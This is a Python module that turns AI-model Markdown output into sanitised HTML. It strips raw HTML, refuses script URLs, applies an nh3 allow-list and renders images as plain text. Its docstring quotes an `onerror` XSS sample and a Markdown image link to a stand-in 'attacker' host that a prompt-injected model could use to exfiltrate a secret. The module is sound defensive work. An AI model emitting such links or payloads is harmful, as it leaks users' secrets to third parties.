"""Model output as safe HTML: Markdown without raw HTML, then an allow-list sanitiser.

Two layers, because either alone has failed somewhere before:

1. markdown-it-py's ``js-default`` preset (CommonMark plus tables and strikethrough)
   never passes raw HTML through (``<img onerror=...>`` comes out as text) and its
   link validator refuses ``javascript:``, ``vbscript:``, ``file:`` and ``data:`` URLs.
2. nh3 (ammonia) then keeps only an allow-list of tags, attributes and URL schemes, so
   nothing a future Markdown plugin emits can carry a script, an event handler or a
   script URL into the page.

Images are not rendered at all: a model that was talked into writing
``![](https://attacker/?q=<secret>)`` would otherwise make every viewer's browser send
the secret away. The image's alt text and URL stay visible as text.
"""

from __future__ import annotations

from functools import cache
from typing import Any

import nh3
from django.utils.html import escape
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt

ALLOWED_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2", "h3", "h4",
    "h5", "h6", "hr", "i", "kbd", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "summary", "sup",
    "table", "tbody", "td", "tfoot", "th", "thead", "tr", "ul",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},  # language-xyz from fenced code blocks
    "ol": {"start"},
    "td": {"align", "style"},
    "th": {"align", "style"},
}
URL_SCHEMES = {"http", "https", "mailto"}


def _render_image_as_text(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env)
    src = str(token.attrGet("src") or "")
    return escape(f"[image: {alt}]({src})" if alt else f"[image]({src})")


@cache
def markdown_parser() -> MarkdownIt:
    md = MarkdownIt("js-default", {"breaks": True})
    md.add_render_rule("image", _render_image_as_text)
    return md


def sanitize_html(html: str) -> str:
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        clean_content_tags={"script", "style"},
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes=URL_SCHEMES,
        link_rel="noopener noreferrer nofollow",
        filter_style_properties={"text-align"},
    )


def render_markdown(text: str) -> SafeString:
    """Markdown from a model (or anyone) as HTML that is safe to put in a page."""
    if not text:
        return mark_safe("")  # noqa: S308 - the empty string
    html = markdown_parser().render(text)
    return mark_safe(sanitize_html(html))  # noqa: S308 - sanitised by nh3 just above
